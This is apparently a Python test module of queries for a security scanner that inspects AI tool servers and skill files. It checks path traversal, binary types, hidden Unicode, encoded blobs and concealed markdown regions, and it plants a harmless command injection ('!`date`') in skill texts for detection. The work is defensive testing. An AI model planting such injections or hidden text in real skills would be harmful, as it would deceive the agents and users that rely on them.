"""Queries of the engine's operators over the test tables, with the same results in SQL where SQL can express them."""

from __future__ import annotations

import datetime as dt

from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F

from skein.functions import text as X
from skein.functions import units as U
from skein.operators import findings as FI
from skein.operators import flows, inventory, lock, metrics, relate, rules, taint
from skein.session import read, spread
from skein.sources import configs, files
from skein.streaming import service

QUERIES: dict = {}
SQL: dict[str, str] = {}


def query(name: str, sql: str | None = None):  # noqa: ANN201
    """Register a query under its name, with its SQL."""

    def add(fn):  # noqa: ANN001, ANN202
        QUERIES[name] = fn
        if sql:
            SQL[name] = sql
        return fn

    return add


# ---------------------------------------------------------------- sources and files


@query("s07_s08_binary_kinds", """
select kind, archive, count(*) as n from (
  select case when h like '7F454C46%' then 'elf' when h like '4D5A%' and octet_length(data) >= 64 then 'pe' when h like 'FEEDFACE%' or h like 'FEEDFACF%' or h like 'CEFAEDFE%' or h like 'CFFAEDFE%' then 'macho' when h like 'CAFEBABE%' then 'macho_or_class'
    when h like '0061736D%' then 'wasm' when h like '504B0304%' then 'zip' when h like '1F8B%' then 'gzip' when h like '25504446%' then 'pdf' when h like '89504E47%' then 'png' when h like 'FFD8FF%' then 'jpeg' when h like '47494638%' then 'gif'
    when regexp_matches(h, '^(?:..)*?00') and not regexp_matches(h, '^(?:FFFE|FEFF)') then 'binary' end as kind,
  case when h like '504B0304%' or h like '504B0506%' then 'zip' when h like '1F8B%' then 'tgz' when octet_length(data) >= 262 and substr(h, 515, 10) = '7573746172' then 'tar' end as archive
  from (select data, substr(hex(data), 1, 16384) as h from file_blobs)) group by all""")
def binary_kinds(spark: SparkSession, d: str) -> DataFrame:
    b = read(spark, d, "file_blobs", "data")
    return b.groupBy(X.binary_kind(F.col("data")).alias("kind"), X.archive_format(F.col("data")).alias("archive")).agg(F.count("*").alias("n"))


_LANG_SQL = "case when regexp_matches(lower(regexp_extract(file_path, '[^/]*$')), '^dockerfile|\\.dockerfile$') then 'dockerfile' else map_extract_value(map {" + ", ".join(f"'{k}': '{v}'" for k, v in X.LANGUAGES.items()) + "}, case when strpos(regexp_extract(file_path, '[^/]*$'), '.') > 0 then regexp_extract(lower(file_path), '[^.]*$') end) end"


@query("s09_language", f"select {_LANG_SQL} as language, count(*) as n, sum(n_bytes)::bigint as n_bytes from file_blobs group by 1")
def language(spark: SparkSession, d: str) -> DataFrame:
    b = read(spark, d, "file_blobs", "file_path", "n_bytes")
    return b.groupBy(X.language(F.col("file_path")).alias("language")).agg(F.count("*").alias("n"), F.sum("n_bytes").alias("n_bytes"))


@query("s10_decode", """
select blob_id, case when hex(data) like 'FFFE%' then 'utf-16-le' when hex(data) like 'FEFF%' then 'utf-16-be' when try(decode(data)) is not null then 'utf-8' else 'latin-1' end as encoding,
  case when hex(data) like 'FFFE%' or hex(data) like 'FEFF%' then (octet_length(data) - 2) // 2 when try(decode(data)) is not null then length(decode(data)) - (hex(data) like 'EFBBBF%')::int else octet_length(data) end::int as n_chars
from file_blobs""")
def decode(spark: SparkSession, d: str) -> DataFrame:
    t = X.decode_text(F.col("data"))
    b = read(spark, d, "file_blobs", "blob_id", "data").select("blob_id", t.alias("t"))
    return b.select("blob_id", F.col("t.encoding").alias("encoding"), F.length("t.text").alias("n_chars"))


@query("s03_s04_member_paths", """
select doc_id, case when p is null or trim(p) = '' then 'empty' when starts_with(p, '/') then 'absolute' when regexp_matches(p, '^[A-Za-z]:') then 'drive' when list_contains(string_split(p, '/'), '..') then 'escape' when contains(p, ':') then 'stream' end as problem,
  case when p is not null and not starts_with(p, '/') and not list_contains(string_split(p, '/'), '..') and not contains(p, ':') then array_to_string(list_filter(string_split(p, '/'), lambda x: x not in ('', '.')), '/') end as path
from (select doc_id, case doc_id % 4 when 0 then './' || file_path when 1 then replace(file_path, '/', '//') when 2 then '../' || file_path else file_path end as p from documents)""")
def member_paths(spark: SparkSession, d: str) -> DataFrame:
    k, p = F.col("doc_id") % 4, F.col("file_path")
    odd = F.when(k == 0, F.concat(F.lit("./"), p)).when(k == 1, F.replace(p, F.lit("/"), F.lit("//"))).when(k == 2, F.concat(F.lit("../"), p)).otherwise(p)
    return read(spark, d, "documents", "doc_id", "file_path").select("doc_id", X.path_problem(odd).alias("problem"), X.member_path(odd).alias("path"))


@query("s05_refused", """
with recursive f as (select coalesce(file_lang, '') as scan_id, report_id || '/' || file_path as path, max(n_bytes) as length from file_blobs group by all),
o as (select *, row_number() over (partition by scan_id order by path) as rn from f where length <= 4000),
walk(scan_id, rn, path, n, b, kind) as (
  select distinct scan_id, 0::bigint, '', 0::bigint, 0::hugeint, null::varchar from o
  union all select o.scan_id, o.rn, o.path, case when w.n >= 60 or w.b + o.length > 50000 then w.n else w.n + 1 end, case when w.n >= 60 or w.b + o.length > 50000 then w.b else w.b + o.length end,
    case when w.n >= 60 then 'too_many_files' when w.b + o.length > 50000 then 'total_bytes_exceeded' end from walk w join o on o.scan_id = w.scan_id and o.rn = w.rn + 1)
select scan_id, path, kind from walk where kind is not null union all select scan_id, path, 'too_large' from f where length > 4000""")
def refused(spark: SparkSession, d: str) -> DataFrame:
    """What the limits of a scan refuse: one scan per language, its files in order of path."""
    b = read(spark, d, "file_blobs", "report_id", "file_lang", "file_path", "n_bytes")
    f = b.groupBy(F.coalesce("file_lang", F.lit("")).alias("scan_id"), F.concat_ws("/", F.col("report_id").cast("string"), "file_path").alias("path")).agg(F.max("n_bytes").alias("length"))
    return files.admit(f, files.Limits(file_bytes=4000, total_bytes=50_000, files=60))[1].select("scan_id", "path", "kind")


def _scan(spark: SparkSession, d: str) -> DataFrame:
    """Decoded files: one scan per report."""
    b = spread(read(spark, d, "file_blobs", "report_id", "file_path", "blob_id", "data").dropDuplicates(["blob_id"]))
    return b.select(F.col("report_id").cast("string").alias("scan_id"), F.col("file_path").alias("path"), "blob_id", X.decode_text(F.col("data"))["text"].alias("text"), X.language(F.col("file_path")).alias("language"))


@query("s05_admission")
def admission(spark: SparkSession, d: str) -> DataFrame:
    b = read(spark, d, "file_blobs", "report_id", "blob_id", "n_bytes").dropDuplicates(["blob_id"])
    f = b.select(F.col("report_id").cast("string").alias("scan_id"), F.concat(F.lit("f"), F.col("blob_id").cast("string")).alias("path"), F.col("n_bytes").alias("length"))
    return files.admit(f, files.Limits(file_bytes=1500, total_bytes=2500, files=5))[1]


@query("s12_fetch_plan")
def fetch_plan(spark: SparkSession, d: str) -> DataFrame:
    b = read(spark, d, "file_blobs", "report_id", "file_path", "n_bytes").distinct()
    return configs.plan_fetch(b.select(F.col("report_id").cast("string").alias("scan_id"), F.col("file_path").alias("path"), F.col("n_bytes").alias("size")), 20, 20_000, 4000)[0]


@query("s14_ref_candidates", """
select locator, i::int as n, array_to_string(list_slice(s, 1, i), '/') as ref, array_to_string(list_slice(s, i + 1, len(s)), '/') as path
from (select locator, s, unnest(range(1, least(len(s), 4) + 1)) as i from (select distinct locator, string_split(regexp_replace(locator, '^[a-z]+:', ''), '/') as s from reports))""")
def ref_candidates(spark: SparkSession, d: str) -> DataFrame:
    r = read(spark, d, "reports", "locator").distinct().select("locator", F.regexp_replace("locator", "^[a-z]+:", "").alias("rest"))
    return U.explode_with(r, "rest", lambda t: [(i, *c) for i, c in enumerate(configs.ref_candidates(t.split("/"), False), 1)], "n int, ref string, path string")


@query("s31_first_ref", """
with c as (select distinct locator, string_split(regexp_replace(locator, '^[a-z]+:', ''), '/') as s from reports)
select locator as key, array_to_string(list_slice(s, 1, n), '/') as ref, array_to_string(list_slice(s, n + 1, len(s)), '/') as path, 'c' || n as commit from (select *, case when length(s[1]) % 2 = 0 then 1 when len(s) > 1 then 2 end as n from c) where n is not null""")
def first_refs(spark: SparkSession, d: str) -> DataFrame:
    """The first split of a link whose ref exists; the refs are the two shortest of every link, the shortest of some only."""
    from skein.sources import records

    c = ref_candidates(spark, d).select(F.col("locator").alias("key"), F.col("n").alias("ord"), "ref", "path")
    known = c.filter((F.col("ord") == 2) | ((F.col("ord") == 1) & (F.length("ref") % 2 == 0))).select("key", "ref", F.concat(F.lit("c"), F.col("ord").cast("string")).alias("commit"))
    return records.first_ref(c, known)


@query("s13_inputs")
def inputs(spark: SparkSession, d: str) -> DataFrame:
    r = read(spark, d, "reports", "kind", "locator").distinct()
    link = F.when(F.col("kind") == "github", F.concat(F.lit("https://github.com/"), F.regexp_replace("locator", "^[a-z]+:[^/]+/", ""))).otherwise(F.concat("kind", F.lit(":"), F.regexp_extract("locator", "[^/]*$", 0)))
    parsed = lambda t: [(x.get("kind", ""), x.get("locator", ""), x.get("rejected", "")) for x in [configs.parse_input(t)]]
    return U.explode_with(r.select("locator", link.alias("t")).withColumnRenamed("locator", "given"), "t", parsed, "kind string, locator string, rejected string")


@query("s15_json_depth")
def json_depth(spark: SparkSession, d: str) -> DataFrame:
    """Tool schemas parsed strictly and with comments; too deep and broken ones give their error."""
    t = read(spark, d, "tools", "tool_id", "input_schema")

    def parse(s: str) -> list[tuple]:
        value, err = U.parse_json(s, jsonc=True, max_depth=8)
        return [(type(value).__name__, err or "")]

    return U.explode_with(t, "input_schema", parse, "kind string, error string")


@query("s18_frontmatter")
def frontmatters(spark: SparkSession, d: str) -> DataFrame:
    t = read(spark, d, "documents", "doc_id", "doc_kind", "text").filter("doc_kind = 'skill_md'").drop("doc_kind")

    def parse(s: str) -> list[tuple]:
        raw, body, err = U.frontmatter(s)
        value, again, bad = U.load_yaml(raw) if raw else (None, [], None)
        value = value if isinstance(value, dict) else {}
        return [(raw is not None, body, err or bad or "", str(value.get("name") or "")[:128], str(value.get("description") or ""), U.allowed_tools(str(value.get("allowed-tools") or "")), again)]

    return U.explode_with(t, "text", parse, "found boolean, body int, error string, name string, description string, tools array<string>, repeated array<string>")


@query("s20_client_servers")
def client_servers(spark: SparkSession, d: str) -> DataFrame:
    """Configurations written from the stored servers and read again."""
    s = read(spark, d, "server_specs", "spec_id", "server_name", "command", "args", "url", "client").dropDuplicates(["spec_id"])
    body = F.to_json(F.struct(F.map_from_arrays(F.array("server_name"), F.array(F.struct("command", "args", "url"))).alias("mcpServers")))
    path = F.when(F.col("client") == "cursor", ".cursor/mcp.json").when(F.col("client") == "vscode", ".vscode/mcp.json").otherwise("x/claude_desktop_config.json")
    return configs.client_servers(s.select("spec_id", path.alias("path"), body.alias("text")))


@query("s22_manifests")
def manifests(spark: SparkSession, d: str) -> DataFrame:
    t = read(spark, d, "tools", "report_id", "server_name", "tool_name", "description").distinct()
    body = F.to_json(F.struct(F.struct(F.array_sort(F.collect_list(F.struct(F.col("tool_name").alias("name"), "description"))).alias("tools")).alias("result")))
    return configs.manifests(t.groupBy("report_id", "server_name").agg(body.alias("text")))


@query("s23_s24_source_tools")
def source_tools(spark: SparkSession, d: str) -> DataFrame:
    s = _scan(spark, d).filter(F.col("language").isin("python", "javascript", "typescript"))
    packed = s.select("scan_id", "path", F.concat("language", F.lit("\x00"), "text").alias("t"))
    both = lambda t: [(x["name"], x["description"], x["params"], x["line"]) for x in (U.python_tools if t.startswith("python\x00") else U.js_tools)(t.split("\x00", 1)[1])]
    return U.explode_with(packed, "t", both, "name string, description string, params array<string>, line int")


# ---------------------------------------------------------------- inventory


@query("i01_skill_roots", "select distinct report_id::varchar as scan_id, case when contains(file_path, '/') then regexp_replace(file_path, '/[^/]*$', '') else '' end as root from file_blobs where lower(regexp_extract(file_path, '[^/]*$')) = 'skill.md'")
def skill_roots(spark: SparkSession, d: str) -> DataFrame:
    return inventory.skill_roots(_paths(spark, d))


def _paths(spark: SparkSession, d: str) -> DataFrame:
    return read(spark, d, "file_blobs", "report_id", "file_path", "sha256").select(F.col("report_id").cast("string").alias("scan_id"), F.col("file_path").alias("path"), "sha256").distinct()


@query("i02_nearest_owner", """
with p as (select distinct report_id::varchar as scan_id, file_path as path from file_blobs),
r as (select distinct scan_id, case when contains(path, '/') then regexp_replace(path, '/[^/]*$', '') else '' end as root from p where lower(regexp_extract(path, '[^/]*$')) = 'skill.md')
select p.scan_id, p.path, arg_max(r.root, length(r.root)) as root from p left join r on p.scan_id = r.scan_id and (r.root = '' or starts_with(p.path, r.root || '/')) group by 1, 2""")
def nearest_owner(spark: SparkSession, d: str) -> DataFrame:
    p = _paths(spark, d).select("scan_id", "path").distinct()
    return inventory.nearest_owner(p, inventory.skill_roots(p))


@query("j02_longest_prefix", """
with p as (select distinct report_id::varchar as scan_id, file_path as path from file_blobs),
r as (select distinct regexp_replace(file_path, '/[^/]*$', '') as root from file_blobs where lower(regexp_extract(file_path, '[^/]*$')) = 'skill.md' and contains(file_path, '/'))
select p.scan_id, p.path, arg_max(r.root, length(r.root)) as root from p join r on starts_with(p.path, r.root || '/') group by 1, 2""")
def longest_prefix(spark: SparkSession, d: str) -> DataFrame:
    """The deepest directory above each path that holds a skill in any scan."""
    p = _paths(spark, d).select("scan_id", "path").distinct()
    return relate.prefix_join(p, "path", inventory.skill_roots(p).select("root").filter("root <> ''").distinct(), "root")


@query("i10_registry_servers", """
with v(path, text) as (values ('a/server.json', '{"name":"io.x/files","version":"1.2","repository":{"url":"https://h.example/r"}}'), ('b/Server.JSON', '{"version_detail":{"version":"3"}}'), ('server.json', 'no json'), ('c/server.json', '{"name":""}'), ('c/other.json', '{"name":"x"}'))
select path, coalesce(nullif(j->>'$.name', ''), nullif(regexp_extract(path, '([^/]+)/[^/]*$', 1), ''), 'server') as name, coalesce(j->>'$.version', j->>'$.version_detail.version') as version, case when contains(j->>'$.name', '/') then split_part(j->>'$.name', '/', 1) end as publisher, coalesce(j->>'$.repository.url', '') as repository
from (select *, case when json_valid(text) then text::json end as j from v) where lower(regexp_extract(path, '[^/]*$')) = 'server.json'""")
def registry_servers(spark: SparkSession, d: str) -> DataFrame:
    """Planted files: the test tables hold no registry files."""
    rows = [("a/server.json", '{"name":"io.x/files","version":"1.2","repository":{"url":"https://h.example/r"}}'), ("b/Server.JSON", '{"version_detail":{"version":"3"}}'), ("server.json", "no json"), ("c/server.json", '{"name":""}'), ("c/other.json", '{"name":"x"}')]
    return configs.registry_servers(spark.createDataFrame([("s", *r) for r in rows], "scan_id string, path string, text string")).drop("scan_id")


@query("i12_resource_texts", "select tool_id, description as text from tools where description is not null and tool_id % 3 <> 2")
def resource_texts(spark: SparkSession, d: str) -> DataFrame:
    """Descriptions as resources: as text, as an HTML blob, or as a blob of another kind, which gives none."""
    t = read(spark, d, "tools", "tool_id", "description").filter("description is not null")
    part = F.col("tool_id") % 3
    blob = F.replace(F.base64(F.encode("description", "utf-8")), F.lit("\r\n"), F.lit(""))
    text = configs.resource_text(F.when(part == 0, F.col("description")), F.when(part > 0, blob), F.when(part == 1, "text/html;charset=utf-8").otherwise("image/png"))
    return t.select("tool_id", text.alias("text")).filter("text is not null")


@query("i05_i06_roles")
def roles(spark: SparkSession, d: str) -> DataFrame:
    p = _paths(spark, d).select("scan_id", "path").distinct()
    own = inventory.nearest_owner(p, inventory.skill_roots(p))
    return own.select("scan_id", "path", inventory.file_role(F.col("path"), F.col("root").isNotNull()).alias("role"))


@query("i07_content_hash", """
select report_id::varchar as scan_id, '' as root, sha256(string_agg(file_path || chr(0) || sha256, chr(10) order by file_path || chr(0) || sha256)) as content_hash, count(*) as n_files
from (select distinct report_id, file_path, sha256 from file_blobs) group by report_id""")
def content_hash(spark: SparkSession, d: str) -> DataFrame:
    return inventory.content_hashes(_paths(spark, d).withColumn("root", F.lit("")))


@query("i09_component_ids", "select distinct server_name, left(sha256('mcp_server|' || config_path || '|' || server_name || '|' || coalesce(url, command)), 16) as component from server_specs")
def component_ids(spark: SparkSession, d: str) -> DataFrame:
    s = read(spark, d, "server_specs", "server_name", "config_path", "url", "command")
    return s.select("server_name", inventory.component_id(F.lit("mcp_server"), F.col("config_path"), F.col("server_name"), F.coalesce("url", "command")).alias("component")).distinct()


@query("i13_runner_packages", """
with a as (select spec_id, regexp_replace(lower(regexp_extract(command, '[^/]*$')), '\\.(?:exe|cmd)$', '') as exe, list_filter(args, lambda x: not starts_with(x, '-')) as plain from (select distinct spec_id, command, args from server_specs)),
b as (select spec_id, case when exe in ('npx', 'bunx', 'uvx', 'pipx', 'pnpx') then list_filter(plain, lambda x: x not in ('run', 'exec', 'dlx'))[1] when exe in ('docker', 'podman') then list_filter(plain, lambda x: x not in ('run', 'exec', 'compose', 'pull') and not contains(x, '='))[1] end as spec from a)
select spec_id, spec, nullif(regexp_extract(spec, '^(@[^/@]+/[^@]+|[^@=<>~!\\[\\s]+)', 1), '') as package,
 case when spec is null then 'none' when regexp_matches(spec, '^[\\w.\\-\\[\\]]+==[\\w.!+\\-]+$') or regexp_matches(v, '^v?\\d+\\.\\d+\\.\\d+[\\w.+\\-]*$') then 'exact' when regexp_matches(v, '^[\\^~<>=*]|x$|\\s') then 'range' when v <> '' then 'tag' else 'none' end as pin
from (select *, regexp_extract(spec, '^@?[^@]*@(.+)$', 1) as v from b)""")
def runner_packages(spark: SparkSession, d: str) -> DataFrame:
    s = read(spark, d, "server_specs", "spec_id", "command", "args").distinct().select("spec_id", inventory.runner_package(F.col("command"), F.col("args")).alias("spec"))
    return s.select("spec_id", "spec", F.nullif(X.package_name(F.col("spec")), F.lit("")).alias("package"), X.pin_status(F.col("spec")).alias("pin"))


@query("i14_live_tools", """
with t as (select distinct server_name as component, tool_name, origin from tools), k as (select * from t where origin <> 'live_list'), l as (select * from t where origin = 'live_list')
select * from k union all select l.* from l anti join k using (component, tool_name)""")
def live_tools(spark: SparkSession, d: str) -> DataFrame:
    t = read(spark, d, "tools", "server_name", "tool_name", "origin").distinct().withColumnRenamed("server_name", "component")
    return inventory.merge_live_tools(t.filter("origin <> 'live_list'"), t.filter("origin = 'live_list'"))


@query("i15_publishers", "select regexp_extract(locator, '^(?:[a-z]+:)?(?:https?://)?[^/]+/([^/]+)/', 1) as publisher, count(distinct locator) as locators from reports group by 1")
def publishers(spark: SparkSession, d: str) -> DataFrame:
    return read(spark, d, "reports", "locator").groupBy(inventory.publisher(F.col("locator")).alias("publisher")).agg(F.count_distinct("locator").alias("locators"))


# ---------------------------------------------------------------- text


@query("t01_text_units")
def text_units(spark: SparkSession, d: str) -> DataFrame:
    s = _scan(spark, d).filter("text is not null")
    role = F.when(F.col("language") == "markdown", "skill_md").otherwise("source")
    return U.text_units(s.select("scan_id", "blob_id", role.alias("role"), "text"))


@query("t02_folded")
def folded(spark: SparkSession, d: str) -> DataFrame:
    t = read(spark, d, "text_runs", "run_id", "text", "run_start", "run_end")
    packed = t.select("run_id", F.concat_ws("\x00", F.col("run_start").cast("string"), F.col("run_end").cast("string"), "text").alias("t"))

    def go(x: str) -> list[tuple]:
        a, b, text = x.split("\x00", 2)
        new, at = U.fold(text)
        return [(new, at[min(int(a), len(at) - 1)], at[min(int(b), len(at) - 1)])]

    return U.explode_with(packed, "t", go, "text string, source_start int, source_end int")


@query("t03_t06_hidden_runs")
def hidden_runs(spark: SparkSession, d: str) -> DataFrame:
    return U.explode_with(read(spark, d, "tools", "tool_id", "description"), "description", U.hidden_runs, "start int, end int, kind string, decoded string")


@query("t04_bidi_counts", "select run_id, len(regexp_extract_all(text, '[\\x{202A}-\\x{202E}\\x{2066}-\\x{2069}]'))::int as bidi, len(regexp_extract_all(text, '[\\x{200B}-\\x{200D}\\x{2060}-\\x{2064}\\x{FEFF}]'))::int as zero_width from text_runs")
def bidi_counts(spark: SparkSession, d: str) -> DataFrame:
    t = read(spark, d, "text_runs", "run_id", "text")
    count = lambda rx: F.regexp_count("text", F.lit(rx))
    return t.select("run_id", count("[\\x{202A}-\\x{202E}\\x{2066}-\\x{2069}]").alias("bidi"), count("[\\x{200B}-\\x{200D}\\x{2060}-\\x{2064}\\x{FEFF}]").alias("zero_width"))


@query("t06_mixed_script", """
select distinct run_id, word from (select run_id, unnest(regexp_extract_all(text, '[\\p{L}\\p{N}_]{2,}')) as word from text_runs)
where regexp_matches(word, '\\p{Latin}') and regexp_matches(word, '[\\p{Cyrillic}\\p{Greek}\\p{Armenian}\\p{Cherokee}]')""")
def mixed_script(spark: SparkSession, d: str) -> DataFrame:
    words = lambda t: [(t[s:e],) for s, e, kind, _ in U.hidden_runs(t) if "LATIN" in kind]
    return U.explode_with(read(spark, d, "text_runs", "run_id", "text"), "text", words, "word string").distinct()


@query("t07_base64_blobs", "select report_id, regexp_replace(json_extract_string(report_json, '$.summary'), '[^\\x20-\\x7e]', '', 'g') as decoded from (select distinct report_id, report_json from reports) where length(decoded) >= 18")
def base64_blobs(spark: SparkSession, d: str) -> DataFrame:
    """Summaries are encoded whole, set into a sentence, and found and decoded again."""
    plain = F.regexp_replace(F.get_json_object("report_json", "$.summary"), "[^\\x20-\\x7e]", "")
    r = read(spark, d, "reports", "report_id", "report_json").distinct().select("report_id", F.concat(F.lit("see "), F.replace(F.base64(plain.cast("binary")), F.lit("\r\n"), F.lit("")), F.lit(" for it")).alias("t"))
    return U.explode_with(r, "t", lambda t: [(b[3],) for b in U.blobs(t) if b[2] == "base64"], "decoded string")


@query("t07_nested_blobs")
def nested_blobs(spark: SparkSession, d: str) -> DataFrame:
    return U.explode_with(_scan(spark, d).select("blob_id", "text"), "text", U.blobs, "start int, end int, decode_path string, decoded string")


@query("t09_t10_sections")
def doc_sections(spark: SparkSession, d: str) -> DataFrame:
    return U.explode_with(read(spark, d, "documents", "doc_id", "text"), "text", U.sections, "start int, end int, level int, heading string")


@query("t10_headings", """
select doc_id, length(regexp_extract(line, '^(#{1,6})[ \\t]', 1))::int as level, count(*) as n
from (select doc_id, unnest(string_split(text, chr(10))) as line from documents where not contains(text, '```') and not contains(text, '~~~')) where regexp_matches(line, '^#{1,6}[ \\t]+\\S') group by 1, 2""")
def headings(spark: SparkSession, d: str) -> DataFrame:
    t = read(spark, d, "documents", "doc_id", "text").filter(~F.contains("text", F.lit("```")) & ~F.contains("text", F.lit("~~~")))
    lines = t.select("doc_id", F.explode(F.split("text", "\n")).alias("line")).filter(F.col("line").rlike(r"^#{1,6}[ \t]+\S"))
    return lines.groupBy("doc_id", F.length(F.regexp_extract("line", r"^(#{1,6})[ \t]", 1)).alias("level")).agg(F.count("*").alias("n"))


@query("t10_headings_all")
def headings_all(spark: SparkSession, d: str) -> DataFrame:
    """Headings of all documents by level, with fenced code left out; `t10_headings` is the part that SQL can repeat."""
    return doc_sections(spark, d).groupBy("doc_id", "level").agg(F.count("*").alias("n"))


@query("t09_fences")
def doc_fences(spark: SparkSession, d: str) -> DataFrame:
    return U.explode_with(read(spark, d, "documents", "doc_id", "text"), "text", U.fences, "start int, end int, language string")


@query("t11_planted_regions", """
with v(id, text) as (values (1, 'a <!-- one --> b <!-- two'), (2, '[//]: # (seen by none)'), (3, '![' || repeat('long words ', 3) || '](x.png)'), (4, '<p style="display:none">gone</p> <p style="color: red">here</p>'), (5, 'plain ![alt](y.png)'), (6, 'x' || repeat(' ', 90) || 'pushed far'))
select id, 'comment' as kind, unnest(regexp_extract_all(text, '<!--(.*?)(?:-->|$)', 1)) as content from v union all select id, 'link_reference', regexp_extract(text, '^\\[//\\]: # \\((.*)\\)$', 1) from v where starts_with(text, '[//]') union all select id, 'image_text', regexp_extract(text, '!\\[([^\\]]{20,})\\]', 1) from v where regexp_matches(text, '!\\[[^\\]]{20,}\\]')
union all select id, 'css', regexp_extract(text, 'display:none">(.*?)</p>', 1) from v where contains(text, 'display:none') union all select id, 'pushed', regexp_extract(text, ' {80,}(\\S.*)', 1) from v where regexp_matches(text, ' {80,}\\S')""")
def planted_regions(spark: SparkSession, d: str) -> DataFrame:
    """Planted texts: the documents hide nothing in this way."""
    texts = ["a <!-- one --> b <!-- two", "[//]: # (seen by none)", "![" + "long words " * 3 + "](x.png)", '<p style="display:none">gone</p> <p style="color: red">here</p>', "plain ![alt](y.png)", "x" + " " * 90 + "pushed far"]
    df = spark.createDataFrame(list(enumerate(texts, 1)), "id int, text string")
    return U.explode_with(df, "text", lambda t: [r[2:] for r in U.hidden_regions(t)], "kind string, content string")


@query("t11_hidden_regions")
def hidden_regions(spark: SparkSession, d: str) -> DataFrame:
    return U.explode_with(read(spark, d, "documents", "doc_id", "text"), "text", U.hidden_regions, "start int, end int, kind string, content string")


@query("fp13_rule_export", """
with r(rule_id, severity, n) as (values ('R-1', 'high', 2), ('R-2', 'low', 0)), e as (select rule_id, '{"id":"' || rule_id || '","version":1,"title":"t","description":"","severity":"' || severity || '","confidence":"medium","remediation":"","match_type":"' || case when n > 0 then 'regex' else 'analyzer' end || '","patterns":' || case when n > 0 then '["a+","b"]' else '[]' end || ',"mappings":' || case when n > 0 then '[{"framework":"F","ref":"1"},{"framework":"G","ref":"2"}]' else '[]' end || '}' as entry from r) select * from e""")
def rule_export(spark: SparkSession, d: str) -> DataFrame:
    from skein import sinks

    pack = [{"id": "R-1", "title": "t", "severity": "high", "match": {"type": "regex", "patterns": ["a+", "b"]}}, {"id": "R-2", "title": "t", "severity": "low"}]
    maps = spark.createDataFrame([("R-1", "G", "2"), ("R-1", "F", "1"), ("R-1", "F", "1"), ("R-9", "F", "1")], "rule_id string, framework string, ref string")
    return sinks.export_rules(*configs.rule_tables(spark, pack), maps)


@query("t12_commands")
def commands(spark: SparkSession, d: str) -> DataFrame:
    """Command injections set into the texts of skills are found again."""
    t = read(spark, d, "documents", "doc_id", "doc_kind", "text").filter("doc_kind = 'skill_md'")
    return U.explode_with(t.select("doc_id", F.concat("text", F.lit("\n\nrun !`date` first\n")).alias("text")), "text", U.bang_commands, "start int, command string")


@query("t15_entropy", """
with e as (select distinct content_hash as v from lock_entries where content_hash is not null), c as (select v, unnest(string_split(v, '')) as ch from e), n as (select v, ch, count(*) as k from c group by all), t as (select v, sum(k) as s from n group by v)
select n.v as value, round(-sum(k / s * log2(k / s)), 6) as bits from n join t using (v) group by n.v""")
def entropies(spark: SparkSession, d: str) -> DataFrame:
    return read(spark, d, "lock_entries", "content_hash").filter("content_hash is not null").distinct().select(F.col("content_hash").alias("value"), F.round(X.entropy(F.col("content_hash")), 6).alias("bits"))


@query("t17_duplicate_texts", "select sha256(text) as digest, count(*) as n, min(doc_id) as first_doc from documents where text is not null group by 1 having count(*) > 1")
def duplicate_texts(spark: SparkSession, d: str) -> DataFrame:
    t = read(spark, d, "documents", "doc_id", "text").filter("text is not null")
    return t.groupBy(X.sha256(F.col("text")).alias("digest")).agg(F.count("*").alias("n"), F.min("doc_id").alias("first_doc")).filter("n > 1")


@query("t18_positions", """
select doc_id, p::int as pos, (1 + length(left(text, p - 1)) - length(replace(left(text, p - 1), chr(10), '')))::int as line, (p - coalesce(length(left(text, p - 1)) - strpos(reverse(left(text, p - 1)), chr(10)) + 1, 0) * (contains(left(text, p - 1), chr(10)))::int)::int as col
from (select doc_id, text, strpos(text, 'client') as p from documents) where p > 0""")
def positions(spark: SparkSession, d: str) -> DataFrame:
    t = read(spark, d, "documents", "doc_id", "text").withColumn("pos", F.instr("text", "client")).filter("pos > 0")
    return t.select("doc_id", "pos", X.line_of(F.col("text"), F.col("pos")).alias("line"), X.column_of(F.col("text"), F.col("pos")).alias("col"))


@query("t19_folded_paths")
def folded_paths(spark: SparkSession, d: str) -> DataFrame:
    """Paths of files written as joins are folded back."""
    s = _scan(spark, d).select("blob_id", F.concat(F.lit('p = os.path.join("'), F.array_join(F.split("path", "/"), '", "'), F.lit('")')).alias("t"))
    return U.explode_with(s, "t", U.folded_paths, "line int, folded string")


@query("t22_word_count", "select doc_id, len(regexp_extract_all(text, '[A-Za-z]{2,}'))::int as words from documents")
def word_count(spark: SparkSession, d: str) -> DataFrame:
    return read(spark, d, "documents", "doc_id", "text").select("doc_id", X.word_count(F.col("text")).alias("words"))


@query("t25_shell_events")
def shell_events(spark: SparkSession, d: str) -> DataFrame:
    s = _scan(spark, d).filter("language = 'shell'").select("scan_id", "path", "text").withColumnRenamed("path", "file")
    return U.explode_with(s, "text", U.shell_events, "line int, event string, path string, source string")


@query("t30_schema_texts")
def schema_texts(spark: SparkSession, d: str) -> DataFrame:
    return U.explode_with(read(spark, d, "tools", "tool_id", "input_schema"), "input_schema", lambda s: U.schema_texts(_schema(s)), "pointer string, keyword string, content string")


def _schema(s: str):  # noqa: ANN202
    from skein.operators.shred import parse_schema

    return parse_schema(s)[1]


@query("t31_t32_schema_shapes")
def schema_shapes(spark: SparkSession, d: str) -> DataFrame:
    return U.explode_with(read(spark, d, "tools", "tool_id", "input_schema"), "input_schema", lambda s: [(*U.schema_shape(_schema(s)), len(U.remote_refs(_schema(s))))], "depth int, nodes int, expanded int, remote int")


@query("t34_t35_urls", """
select distinct url, host, (host in ('localhost', '0.0.0.0') or regexp_matches(host, '^127(?:\\.\\d{1,3}){3}$')) as loopback, case when len(string_split(host, '.')) >= 2 then array_to_string(list_slice(string_split(host, '.'), -2, -1), '.') else host end as domain
from (select url, lower(regexp_extract(url, '^[A-Za-z][A-Za-z0-9+.\\-]*://(?:[^/@\\s]*@)?([^/:?#\\s]+)', 1)) as host from server_specs where url is not null)""")
def urls(spark: SparkSession, d: str) -> DataFrame:
    u = read(spark, d, "server_specs", "url").filter("url is not null").distinct().withColumn("host", X.url_host(F.col("url")))
    return u.select("url", "host", X.is_loopback(F.col("host")).alias("loopback"), X.registrable_domain(F.col("host")).alias("domain"))


@query("t36_dependency_refs")
def dependency_refs(spark: SparkSession, d: str) -> DataFrame:
    return U.explode_with(_scan(spark, d).select("blob_id", "text"), "text", U.dependency_refs, "line int, kind string, name string")


@query("t37_package_names", "select distinct entry_name, lower(regexp_replace(entry_name, '[-_.]+', '-', 'g')) as name from lock_entries where kind = 'package'")
def package_names(spark: SparkSession, d: str) -> DataFrame:
